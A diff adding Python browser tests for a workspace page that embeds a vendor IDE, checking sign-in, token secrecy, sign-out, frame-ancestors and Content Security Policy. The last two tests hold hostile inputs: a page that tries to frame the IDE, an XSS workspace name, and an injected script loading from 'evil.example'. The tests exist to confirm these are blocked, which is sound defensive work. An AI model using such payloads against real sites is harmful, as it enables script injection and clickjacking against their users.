@@ -1,0 +1,191 @@
+"""The page of a workspace in a real browser, with the vendor's script from a local Sphere Engine."""
+
+from __future__ import annotations
+
+from contextlib import asynccontextmanager
+
+import pytest
+from aiohttp import web
+from aiohttp.test_utils import TestServer
+
+from bot.models import State
+from bot.providers.base import Embedding
+from bot.words import ide as words
+from tests.playground.sphere.stand import PLAIN, RUNNING, SECRET_OF_RUNNING, sphere_server
+from tests.support.ports import quiet_port
+from tests.web.driver import chromium, is_installed
+from tests.web.ide_rig import ide_rig
+from tests.web.rig import ALICE
+
+pytestmark = [
+    pytest.mark.browser,
+    pytest.mark.skipif(not is_installed(), reason="Chromium and chromedriver are not installed"),
+]
+
+
+@asynccontextmanager
+async def scene():
+    """Yield the world, a window, the local Sphere Engine, and a workspace of Alice's that runs there."""
+    async with sphere_server() as sphere:
+        host = sphere.url.partition("://")[2]
+        loads = Embedding(host, is_https=False, endpoint=sphere.url)
+        async with ide_rig(loads=loads) as world, chromium() as window:
+            workspace = await world.workspace(remote_id=RUNNING, entry=SECRET_OF_RUNNING)
+            yield world, window, sphere, workspace
+
+
+async def sign_in(world, window, workspace, user="U0ALICE"):
+    world.made.issuer.person = ("T0HOME", user)
+    await window.go(f"{world.origin}/ide/{workspace.id}")
+    assert await window.text("a.button") == words.SIGN_IN_BUTTON
+    await window.press("a.button")
+
+
+async def test_the_owner_opens_the_ide_and_works_in_it():
+    async with scene() as (world, window, sphere, workspace):
+        await sign_in(world, window, workspace)
+        assert await window.url() == f"{world.origin}/ide/{workspace.id}"
+        await window.into_frame()
+        await window.press("#ide:not([hidden]) #run")
+        await window.shows("OK: 15 characters were run")
+        await window.out_of_frame()
+        await window.text("#frame[data-se-state='running']")
+        await window.press(".se-fullscreen")
+        await window.shows("Leave full screen")
+        await window.press(".se-fullscreen")
+        assert await window.script("return document.getElementById('sphere-engine-jssdk').src") == (
+            f"{sphere.url}/static/sdk/sdk.min.js"
+        )
+        assert await window.script("return document.querySelectorAll('iframe').length") == 1
+        # Neither in an address nor in what was sent as HTML: it came by the one POST.
+        assert SECRET_OF_RUNNING not in await window.script("return document.querySelector('iframe').src")
+        html = await window.script("return (await fetch(location.href)).text()")
+        assert SECRET_OF_RUNNING not in html
+        assert not [line for line in sphere.server.harness.requests if SECRET_OF_RUNNING in line]
+        assert await window.console() == []
+        cookie = (await window.cookies())["usher-session"]
+        assert (cookie["httpOnly"], cookie["sameSite"]) == (True, "Lax")
+
+
+async def test_it_opens_by_itself_when_it_runs_and_closes_when_it_stops():
+    async with scene() as (world, window, _sphere, workspace):
+        await world.sees(workspace, State.STARTING, entry=None)
+        await sign_in(world, window, workspace)
+        await window.shows(words.PLACES["starting"][0])
+        assert await window.script("return document.getElementById('sphere-engine-jssdk')") is None
+        await world.sees(workspace, State.RUNNING, entry=SECRET_OF_RUNNING)
+        await window.into_frame()
+        await window.shows("Console Python")
+        await window.out_of_frame()
+        await window.press("#stop button")
+        await window.shows(words.PLACES["stopping"][0])
+        (wish,) = await world.store.open_wishes(ALICE)
+        assert wish.verb == "stop"
+        assert await window.console() == []
+
+
+async def test_what_stops_elsewhere_goes_from_the_page_by_itself():
+    async with scene() as (world, window, _sphere, workspace):
+        await sign_in(world, window, workspace)
+        await window.text("iframe")
+        await world.sees(workspace, State.STOPPED, entry=None)
+        await window.shows(words.PLACES["stopped"][0])
+        assert await window.script("return document.querySelector('iframe, #frame')") is None
+        await world.sees(workspace, State.RUNNING)
+        await window.text("iframe")
+        assert await window.console() == []
+
+
+async def test_one_that_needs_no_token_opens_without():
+    async with scene() as (world, window, _sphere, _workspace):
+        plain = await world.workspace(remote_id=PLAIN, entry=None, name="plain")
+        await sign_in(world, window, plain)
+        # The page waits for what opens it as long as it may come, and then does without.
+        await window.call("POST", "/timeouts", {"implicit": 30_000})
+        await window.into_frame()
+        await window.shows("Shaky")
+
+
+async def test_another_person_sees_nothing_of_it():
+    async with scene() as (world, window, sphere, workspace):
+        await sign_in(world, window, workspace, "U0BOB")
+        await window.shows(words.NOTHING_TITLE)
+        assert "notebook" not in await window.text()
+        assert [line for line in await window.console() if "404" not in line] == []
+        assert sphere.server.harness.requests == {}
+
+
+async def test_after_signing_out_neither_back_nor_another_tab_shows_anything():
+    async with scene() as (world, window, _sphere, workspace):
+        await sign_in(world, window, workspace)
+        await window.text("iframe")
+        first = await window.call("GET", "/window")
+        second = (await window.call("POST", "/window/new", {"type": "tab"}))["handle"]
+        await window.call("POST", "/window", {"handle": second})
+        await window.go(f"{world.origin}/ide/{workspace.id}")
+        await window.text("iframe")
+        await window.press("form[action='/sign-out'] button")
+        await window.shows(words.SIGNED_OUT_TITLE)
+        await window.back()
+        await window.shows(words.SIGN_IN_BUTTON)
+        assert "notebook" not in await window.text()
+        await window.call("POST", "/window", {"handle": first})
+        await window.shows(words.SIGN_IN_BUTTON)
+        assert await window.script("return document.querySelector('iframe')") is None
+
+
+async def test_a_session_that_ends_takes_the_ide_away():
+    async with scene() as (world, window, _sphere, workspace):
+        await sign_in(world, window, workspace)
+        await window.text("iframe")
+        await world.made.accounts.unlink(ALICE, actor="test")
+        await window.shows(words.SIGN_IN_BUTTON)
+        assert await window.script("return document.querySelector('iframe')") is None
+
+
+async def test_nobody_can_frame_it():
+    async with scene() as (world, window, sphere, workspace):
+        await sign_in(world, window, workspace)
+        await window.text("iframe")
+        await window.console()
+
+        async def evil(_request: web.Request) -> web.Response:
+            page = f"<!doctype html><iframe src='{world.origin}/ide/{workspace.id}'></iframe>"
+            return web.Response(text=page, content_type="text/html")
+
+        app = web.Application()
+        app.router.add_get("/", evil)
+        async with TestServer(app, host="127.0.0.1") as elsewhere:
+            before = dict(sphere.server.harness.requests)
+            await window.go(str(elsewhere.make_url("/")))
+            assert any("frame-ancestors" in line for line in await window.console())
+            await window.into_frame()
+            assert "notebook" not in await window.script("return document.documentElement.textContent")
+            assert dict(sphere.server.harness.requests) == before
+
+
+async def test_a_vendor_that_cannot_be_reached_is_said_so():
+    dead = f"127.0.0.1:{quiet_port()}"
+    loads = Embedding(dead, is_https=False, endpoint=f"http://{dead}")
+    async with ide_rig(loads=loads) as world, chromium() as window:
+        workspace = await world.workspace()
+        await sign_in(world, window, workspace)
+        await window.shows("Sphere Engine cannot be reached")
+        assert await window.text("#again a") == words.TRY_AGAIN
+
+
+async def test_a_strange_script_is_not_run():
+    """A name with markup adds nothing; and where escaping would not hold, the policy does."""
+    async with scene() as (world, window, _sphere, workspace):
+        await world.store.name_workspace(workspace.id, "<img src=x onerror=window.owned=1>")
+        await sign_in(world, window, workspace)
+        await window.text("iframe")
+        assert await window.text("h1") == "<img src=x onerror=window.owned=1>"
+        await window.script(
+            "const s = document.createElement('script'); s.textContent = 'window.owned = 2';"
+            "document.body.appendChild(s); const e = document.createElement('script');"
+            "e.src = 'https://evil.example/x.js'; document.body.appendChild(e);"
+        )
+        assert await window.script("return window.owned") is None
+        refused = [line for line in await window.console() if "Content Security Policy" in line]
+        assert len(refused) == 2
